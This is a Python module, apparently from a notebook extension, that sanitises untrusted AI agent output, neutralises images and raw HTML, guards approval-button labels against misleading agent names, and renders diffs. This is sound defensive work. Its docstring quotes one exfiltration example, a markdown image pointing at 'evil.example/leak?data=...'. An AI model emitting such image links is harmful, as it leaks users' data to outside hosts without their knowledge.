"""Agent output as safe HTML: markdown rendered, then sanitised (agent text is untrusted).

Nor may agent output make the browser fetch anything without a click, as a remote image
would (`![x](https://evil.example/leak?data=...)`): only data:image and attachment: images
are shown, any other becomes its alt text and its URL as a link.
"""

from __future__ import annotations

import difflib
import html
import json
import re
from collections.abc import Sequence
from functools import lru_cache
from typing import Any

import nh3
from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

from .protocol import FORMAT_MARKDOWN, FORMAT_TEXT, ResponseFormat, response_format

# What URL parsers strip before a URL may come first; any other character (U+00A0, say)
# would make the URL a relative one, which the browser would fetch from the server.
SAFE_IMAGE = re.compile(r"[\x00-\x20]*(data:image/|attachment:)", re.IGNORECASE)
LINK_REL = "noopener noreferrer nofollow"


@lru_cache(maxsize=1)
def _markdown() -> MarkdownIt:
    # Raw HTML in the agent's markdown is shown as text, never interpreted.
    md = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table")
    md.add_render_rule("image", _image)
    return md


def _image(renderer: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict,
           env: EnvType) -> str:
    """An image that loads nothing by itself: a data:/attachment: one, else a placeholder."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    if SAFE_IMAGE.match(src):
        return renderer.image(tokens, idx, options, env)
    alt = html.escape(renderer.renderInlineAsText(token.children or [], options, env))
    url = html.escape(src)
    return (f'<span title="Image not loaded: agent output loads nothing without a click">'
            f'[image: {alt or "Image"}] <a href="{url}">{url}</a></span>')


_DATA_URL = re.compile(r"[\x00-\x20]*(data|attachment):", re.IGNORECASE)


def _attribute(tag: str, name: str, value: str) -> str | None:
    # The last wall: no src but a data:image or attachment: one survives, and such URLs
    # (allowed for that) go nowhere else.
    if name == "src":
        return value if tag == "img" and SAFE_IMAGE.match(value) else None
    return None if name in ("href", "cite") and _DATA_URL.match(value) else value


def sanitize(markup: str) -> str:
    """HTML with everything executable or fetching by itself removed."""
    return nh3.clean(markup, link_rel=LINK_REL, attribute_filter=_attribute,
                     url_schemes=nh3.ALLOWED_URL_SCHEMES | {"data", "attachment"})


def markdown_html(text: str) -> str:
    """Markdown to HTML with everything executable removed (scripts, handlers, js: URLs)
    and every image but inline data or an attachment shown as a link instead."""
    return sanitize(_markdown().render(text))


# In markdown that some other program renders later (exported notebooks), any "![" may
# start an image and any "<" before a letter, "/", "!" or "?" raw HTML. An image becomes a
# link, unless its source is inline data or an attachment; a word joiner (U+2060, unseen)
# after each such "<" leaves it text for every markdown and HTML parser, in code too.
_MARKDOWN_IMAGE = re.compile(
    r"!\[(?:(?P<alt>[^\[\]\\\n]*)\](?P<safe>\([ \t\n]*(?:data:image/|attachment:))?)?",
    re.IGNORECASE)
_HTML_START = re.compile(r"<(?=[A-Za-z/!?])")


def inert_markdown(text: str) -> str:
    """Markdown that loads nothing by itself, however it is rendered: images as links,
    raw HTML as text (as `markdown_html` shows it)."""

    def image(match: re.Match[str]) -> str:
        if match["safe"]:
            return match[0]
        if match["alt"] is None:  # not an alt text this can read: no image at all
            return "!\u2060["
        return f"[image: {match['alt']}]"

    return _HTML_START.sub("<\u2060", _MARKDOWN_IMAGE.sub(image, text))


def plain_html(text: str) -> str:
    """Text shown as is (while it streams): escaped, whitespace kept."""
    style = "white-space:pre-wrap;margin:0;font-family:inherit"
    return f'<pre style="{style}">{html.escape(text)}</pre>'


def text_html(text: str) -> str:
    """Command output as printed: escaped, every line break kept, long lines scroll (a
    wrapped line would look like two)."""
    style = ("margin:0;white-space:pre;overflow-x:auto;"
             "font-family:var(--jp-code-font-family, monospace)")
    return f'<pre style="{style}">{html.escape(text)}</pre>'


def text_markdown(text: str) -> str:
    """Command output as a fenced code block, which no markdown renderer reads into: its
    fence is longer than any run of backticks in the text, so nothing in it closes it."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}text\n{text.removesuffix(chr(10))}\n{fence}"


def result_html(text: str, fmt: ResponseFormat = FORMAT_MARKDOWN) -> str:
    """An answer's text as safe HTML: preformatted for `text`, rendered markdown otherwise."""
    return text_html(text) if fmt == FORMAT_TEXT else markdown_html(text)


def result_markdown(text: str, fmt: ResponseFormat = FORMAT_MARKDOWN) -> str:
    """An answer's text as inert markdown (exported notebooks), by its format."""
    return text_markdown(text) if fmt == FORMAT_TEXT else inert_markdown(text)


def response_html(response: dict[str, Any]) -> str:
    """An agent `response` (`{type, result, format?}`) as safe HTML; an error as plain text."""
    result = str(response.get("result", ""))
    if response.get("type") == "error":
        return plain_html(result)
    return result_html(result, response_format(response))


def response_markdown(response: dict[str, Any]) -> str:
    """An agent `response` as inert markdown, by its format."""
    return result_markdown(str(response.get("result", "")), response_format(response))


def tool_line(payload: dict[str, Any]) -> str:
    """One compact line for a tool call or its result."""
    name = html.escape(str(payload.get("name", "tool")))
    if "isError" in payload:
        mark = "✗" if payload.get("isError") else "✓"
        detail = payload.get("result")
    else:
        mark, detail = "⚙", payload.get("args")
    if detail is not None and not isinstance(detail, str):
        detail = json.dumps(detail, ensure_ascii=False)
    detail = html.escape((detail or "")[:160].replace("\n", " "))
    return f'<div style="font-size:85%;opacity:.8"><code>{mark} {name}</code> {detail}</div>'


# -- approvals: requests, their diffs and their outcomes ----------------------------------

MAX_DIFF_LINES = 400  # per file: a longer diff is cut, with a line saying how much
# Translucent tints over the theme's own background, in the theme's text colour: readable
# (WCAG AA) in the light and the dark theme alike.
DIFF_STYLE = {"+": "background:rgba(46,160,67,.2);", "-": "background:rgba(248,81,73,.2);",
              " ": ""}


KIND_LABELS = {"allow_once": "Allow", "allow_always": "Always allow",
               "reject_once": "Reject", "reject_always": "Always reject"}
# The rule the sidebar's optionLabel follows too (tests/fixtures/option_labels.json holds
# the cases both must pass); ASCII so that \b means what it means in JavaScript.
_FLAGS = re.IGNORECASE | re.ASCII
_ALLOW_AGREES = re.compile(r"\b(allow|accept|approv|yes|ok\b|always|proceed|continue)", _FLAGS)
_ALLOW_REFUSES = re.compile(
    r"\b(reject|den(y|ied)|disallow|refus|declin|never|not\b|no\b|skip|abort|cancel|block"
    r"|stop)|n't", _FLAGS)
_REJECT_AGREES = re.compile(
    r"\b(reject|den(y|ied)|disallow|refus|declin|never|no\b|skip|abort|cancel|block|stop)"
    r"|n't", _FLAGS)
_REJECT_ALLOWS = re.compile(r"\b(allow|accept|approv|yes|ok\b|proceed|continue)", _FLAGS)


def _name_agrees(name: str, kind: str) -> bool:
    """Whether an agent's name for an option says what its kind does (as the sidebar's
    `agrees`: a kind that is not a reject one is judged as an allow)."""
    if kind.startswith("reject"):
        return bool(_REJECT_AGREES.search(name)) and not _REJECT_ALLOWS.search(name)
    return bool(_ALLOW_AGREES.search(name)) and not _ALLOW_REFUSES.search(name)


def option_label(option: dict[str, Any]) -> str:
    """What an option's button says. Agents name their options and are untrusted: the
    name is shown only when it agrees with what the option does (an allow named "Skip"
    or "Reject" reads "Allow"); otherwise the kind's own words (the sidebar does the same)."""
    kind = str(option.get("kind") or "")
    own = KIND_LABELS.get(kind, kind or str(option.get("optionId", "")))
    name = str(option.get("name") or "").strip()
    return name if name and _name_agrees(name, kind) else own


def option_title(option: dict[str, Any]) -> str:
    kind = str(option.get("kind") or "")
    own = KIND_LABELS.get(kind, kind)
    name = str(option.get("name") or "").strip()
    return f'{own} (the agent calls it "{name}")' if name and name.lower() != own.lower() \
        else own


def diff_lines(old_text: str, new_text: str) -> list[str]:
    """The changed lines of a file as "+line" / "-line" / " line" (three lines of context
    around each change; a created file is all "+"), cut at MAX_DIFF_LINES."""
    lines = [line for line in difflib.unified_diff(
        old_text.splitlines(), new_text.splitlines(), lineterm="", n=3)
        if not line.startswith(("---", "+++", "@@"))]
    if len(lines) > MAX_DIFF_LINES:
        lines = [*lines[:MAX_DIFF_LINES], f" … {len(lines) - MAX_DIFF_LINES} more lines"]
    return lines


def diff_text(diff: list[dict[str, Any]] | None) -> str:
    """A request's diff `[{path, oldText, newText}]` as text, one block per file."""
    blocks = []
    for item in diff or []:
        if isinstance(item, dict):
            lines = diff_lines(str(item.get("oldText") or ""), str(item.get("newText") or ""))
            blocks.append("\n".join([f"--- {item.get('path', '')}", *lines]))
    return "\n".join(blocks)


def diff_html(diff: list[dict[str, Any]] | None) -> str:
    """A request's diff as escaped, preformatted +/- lines (added green, removed red)."""
    style = ("margin:4px 0;white-space:pre;overflow-x:auto;max-height:320px;"
             "color:var(--jp-ui-font-color1, #212121);"
             "font-family:var(--jp-code-font-family, monospace);font-size:90%")
    blocks = []
    for item in diff or []:
        if not isinstance(item, dict):
            continue
        lines = diff_lines(str(item.get("oldText") or ""), str(item.get("newText") or ""))
        rows = "".join(f'<div style="{DIFF_STYLE.get(line[:1], "")}">'
                       f'{html.escape(line) or " "}</div>' for line in lines)
        path = html.escape(str(item.get("path", "")))
        blocks.append(f'<div><code>{path}</code><div style="{style}">{rows}</div></div>')
    return "".join(blocks)


OUTCOME_WORDS = {"allowed": "Allowed", "rejected": "Rejected", "expired": "Expired",
                 "cancelled": "Cancelled"}


def permission_summary(resolution: dict[str, Any], title: str = "") -> str:
    """One line for a settled request: "Allowed by alice", "Rejected by policy: title",
    "Expired (rejected)"."""
    outcome = str(resolution.get("outcome", ""))
    word = OUTCOME_WORDS.get(outcome, outcome.capitalize() or "Settled")
    by = resolution.get("by")
    if outcome == "expired" or by == "timeout":
        line = "Expired: nobody answered (rejected)"
    elif by == "user":
        line = f"{word} by {resolution.get('user') or 'a user'}"
    elif by == "policy":
        line = f"{word} by policy"
    else:
        line = word
    return f"{line}: {title}" if title else line
